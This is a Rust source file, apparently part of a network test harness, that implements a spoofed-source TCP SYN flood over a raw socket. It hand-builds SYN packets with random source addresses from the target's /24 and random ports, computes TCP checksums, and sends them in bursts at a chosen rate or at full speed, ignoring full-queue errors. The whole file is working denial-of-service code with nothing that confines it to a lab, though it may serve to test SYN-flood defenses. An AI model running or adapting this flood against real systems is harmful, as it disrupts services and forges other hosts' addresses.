//! A flood of SYNs from random sources, over a raw socket.

use std::io::ErrorKind;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::Duration;

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::now;
use super::ping::internet_checksum;

/// The protocol number of raw sockets whose packets have their IP header (`IPPROTO_RAW`).
const RAW: i32 = 255;
const IP_BYTES: usize = 20;
const PACKET_BYTES: usize = 60;
/// Packets that are sent between two looks at the clock.
const BURST: u32 = 32;

/// Sends SYNs to one address and port. Their sources are random addresses of the same /24, without that of
/// the target and the first, and random ports: the owners of these addresses do not exist.
#[derive(Debug)]
pub struct SynFlood {
    socket: Socket,
    target: SocketAddrV4,
    random: u64,
    packet: [u8; PACKET_BYTES],
}

/// The extent of a flood.
#[derive(Clone, Copy, Debug)]
pub struct Flooded {
    /// SYNs sent.
    pub syns: u64,
    /// Time that it took.
    pub time: Duration,
}

impl Flooded {
    /// Returns the mean rate, in SYNs per second.
    pub fn per_second(&self) -> f64 {
        self.syns as f64 / self.time.as_secs_f64().max(1e-9)
    }
}

impl SynFlood {
    /// Creates a flood in this namespace; the same `seed` gives the same SYNs.
    ///
    /// # Errors
    ///
    /// Returns an error without `CAP_NET_RAW` in the namespace.
    pub fn new(target: SocketAddrV4, seed: u64) -> Result<Self, String> {
        let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(RAW)))
            .map_err(|e| format!("cannot open a raw socket to flood {target}: {e}"))?;
        let mut packet = [0; PACKET_BYTES];
        packet[0] = 0x45;
        packet[2..4].copy_from_slice(&(PACKET_BYTES as u16).to_be_bytes());
        packet[8] = 64;
        packet[9] = 6;
        packet[16..20].copy_from_slice(&target.ip().octets());
        let tcp = &mut packet[IP_BYTES..];
        tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
        // Ten words, SYN, a window of 64,240 bytes; MSS, SACK permitted, timestamps, window scale.
        tcp[12..16].copy_from_slice(&[0xa0, 0x02, 0xfa, 0xf0]);
        let options = [
            2, 4, 5, 180, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7,
        ];
        tcp[20..40].copy_from_slice(&options);
        Ok(Self {
            socket,
            target,
            random: seed,
            packet,
        })
    }

    /// Sends SYNs at `rate` per second, or as fast as possible, until `done` returns true.
    ///
    /// # Errors
    ///
    /// Returns an error if a packet cannot be sent for another reason than a full queue.
    pub fn run(
        &mut self,
        rate: Option<u32>,
        mut done: impl FnMut() -> bool,
    ) -> Result<Flooded, String> {
        let (start, mut syns) = (now(), 0);
        loop {
            let time = now() - start;
            if done() {
                return Ok(Flooded { syns, time });
            }
            let due = rate.map_or(f64::INFINITY, |rate| time.as_secs_f64() * f64::from(rate));
            if syns as f64 > due {
                std::thread::sleep(Duration::from_micros(100));
                continue;
            }
            for _ in 0..BURST {
                self.send()
                    .map_err(|e| format!("flood {}: {e}", self.target))?;
                syns += 1;
            }
        }
    }

    /// Sends one SYN.
    fn send(&mut self) -> std::io::Result<()> {
        // Knuth's MMIX generator; the upper bits are the good ones.
        self.random = self
            .random
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        let [a, b, c, d, e, ..] = (self.random >> 16).to_be_bytes()[2..] else {
            return Ok(());
        };
        let [x, y, z, own] = self.target.ip().octets();
        let host = match 3 + a % 250 {
            host if host == own => 253,
            host => host,
        };
        let source = Ipv4Addr::new(x, y, z, host).octets();
        self.packet[12..16].copy_from_slice(&source);
        let tcp = &mut self.packet[IP_BYTES..];
        tcp[0..2].copy_from_slice(&[b | 0x80, c]);
        tcp[4..8].copy_from_slice(&[d, e, a, b]);
        tcp[16..18].fill(0);
        let checksum = self.checksum();
        self.packet[IP_BYTES + 16..IP_BYTES + 18].copy_from_slice(&checksum.to_be_bytes());
        match self
            .socket
            .send_to(&self.packet, &SockAddr::from(self.target))
        {
            Ok(_) => Ok(()),
            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(()),
            Err(error)
                if error.raw_os_error() == Some(rustix::io::Errno::NOBUFS.raw_os_error()) =>
            {
                Ok(())
            }
            Err(error) => Err(error),
        }
    }

    /// Returns the checksum of the segment, whose checksum field is zero. The kernel completes the IP
    /// header.
    fn checksum(&self) -> u16 {
        let mut bytes = [0; 12 + PACKET_BYTES - IP_BYTES];
        bytes[..8].copy_from_slice(&self.packet[12..20]);
        bytes[9] = 6;
        bytes[11] = (PACKET_BYTES - IP_BYTES) as u8;
        bytes[12..].copy_from_slice(&self.packet[IP_BYTES..]);
        internet_checksum(&bytes)
    }
}
